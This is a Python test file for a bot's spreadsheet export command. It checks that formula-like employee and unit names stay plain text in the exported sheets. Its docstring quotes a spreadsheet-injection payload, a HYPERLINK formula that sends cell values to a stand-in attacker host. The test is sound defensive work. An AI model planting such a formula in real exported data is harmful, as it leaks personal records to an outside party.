"""Every /ekspor file keeps imported text as text: a name such as
``=HYPERLINK("https://evil.example/?d="&B4&C4,"Budi")`` is shown as typed and
never runs as a formula in Excel or LibreOffice."""

from __future__ import annotations

import io
from collections.abc import Iterable
from datetime import timedelta

from openpyxl import load_workbook
from sqlalchemy.ext.asyncio import AsyncSession

from bot.core.vocabulary import BroadcastStatus, DeliveryStatus
from models import Broadcast, BroadcastDelivery, Employee
from tests.factories import (
    HOSTILE,
    add_assessment_session,
    add_course,
    add_employee,
    add_enrollment,
    add_jp_entry,
    add_participation,
    add_program,
    add_unit,
)
from tests.journeys.conftest import ADMIN_ID, RunningBot

EVIL_UNIT = "=1+1"


async def add_hostile_people(session: AsyncSession) -> list[Employee]:
    """One employee for each hostile name, all in a unit whose name is hostile too."""
    await add_unit(session, "OPD-EVIL", EVIL_UNIT)
    return [
        await add_employee(
            session, nip=f"198609262015051{number:03}", name=name, unit_code="OPD-EVIL"
        )
        for number, name in enumerate(HOSTILE)
    ]


def assert_text_stays_text(data: bytes, texts: Iterable[str]) -> None:
    """No cell is a formula, and each of ``texts`` is a quoted text cell showing itself."""
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
    by_text = {cell.value: cell for cell in cells if isinstance(cell.value, str)}
    for text in texts:
        # XML reads a lone carriage return as a line feed; it is still the same text.
        cell = by_text[text.replace("\r", "\n")]
        assert (cell.coordinate, cell.data_type, cell.quotePrefix) == (cell.coordinate, "s", True)


def numbers_in_column_a(data: bytes) -> list[object]:
    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    return [row[0] for row in sheet.iter_rows(min_row=3, values_only=True)]


async def test_the_attendance_sheet_shows_formula_like_names_as_text(bot: RunningBot) -> None:
    async with bot.db.begin() as session:
        sitting = await add_assessment_session(
            session,
            program=await add_program(session),
            code="S-0317",
            starts_at=bot.clock.now() + timedelta(days=14),
        )
        for person in await add_hostile_people(session):
            await add_participation(session, employee=person, assessment_session=sitting)
    admin = bot.user(ADMIN_ID)

    await admin.send("/ekspor")
    await admin.next_message()
    await admin.press("Peserta sesi (daftar hadir)")
    picker = await admin.next_edit()
    await admin.press(next(b for b in picker.button_texts if b.startswith("Sen 17 Mar")))
    sent = await admin.next_message()

    assert sent.document is not None
    assert_text_stays_text(sent.document.data, [*HOSTILE, EVIL_UNIT])
    assert numbers_in_column_a(sent.document.data) == [1, 2, 3, 4, 5, 6, 7]


async def test_course_enrollments_show_formula_like_names_as_text(bot: RunningBot) -> None:
    now = bot.clock.now()
    async with bot.db.begin() as session:
        course = await add_course(session, title="Pelayanan Publik Prima", now=now)
        for person in await add_hostile_people(session):
            await add_enrollment(
                session, course=course, employee=person, status="registered", at=now
            )
    admin = bot.user(ADMIN_ID)

    await admin.send("/ekspor")
    await admin.next_message()
    await admin.press("Peserta pelatihan")
    await admin.next_edit()
    await admin.press("Pelayanan Publik Prima")
    sent = await admin.next_message()

    assert sent.document is not None
    assert_text_stays_text(sent.document.data, [*HOSTILE, EVIL_UNIT])


async def test_an_announcement_report_shows_formula_like_names_as_text(bot: RunningBot) -> None:
    now = bot.clock.now()
    async with bot.db.begin() as session:
        people = await add_hostile_people(session)
        broadcast = Broadcast(
            created_by=ADMIN_ID,
            text="Rapat koordinasi",
            audience={},
            status=BroadcastStatus.DONE,
            created_at=now,
        )
        session.add(broadcast)
        await session.flush()
        session.add_all(
            BroadcastDelivery(
                broadcast_id=broadcast.id,
                employee_id=person.id,
                status=DeliveryStatus.DELIVERED,
                delivered_at=now,
            )
            for person in people
        )
    admin = bot.user(ADMIN_ID)

    await admin.send("/ekspor")
    await admin.next_message()
    await admin.press("Laporan pengumuman")
    picker = await admin.next_edit()
    await admin.press(next(b for b in picker.button_texts if "Rapat koordinasi" in b))
    sent = await admin.next_message()

    assert sent.document is not None
    assert_text_stays_text(sent.document.data, [*HOSTILE, EVIL_UNIT])


async def test_jp_per_opd_shows_a_formula_like_opd_name_as_text(bot: RunningBot) -> None:
    async with bot.db.begin() as session:
        people = await add_hostile_people(session)
        await add_jp_entry(session, employee=people[0], jp="14", on=bot.clock.now().date())
    admin = bot.user(ADMIN_ID)

    await admin.send("/ekspor")
    await admin.next_message()
    await admin.press("Capaian JP per OPD")
    sent = await admin.next_message()

    assert sent.document is not None
    assert_text_stays_text(sent.document.data, [EVIL_UNIT])
    sheet = load_workbook(io.BytesIO(sent.document.data)).active
    assert sheet is not None
    assert [(c.value, c.data_type) for c in sheet[3][1:3]] == [(7, "n"), (2.0, "n")]
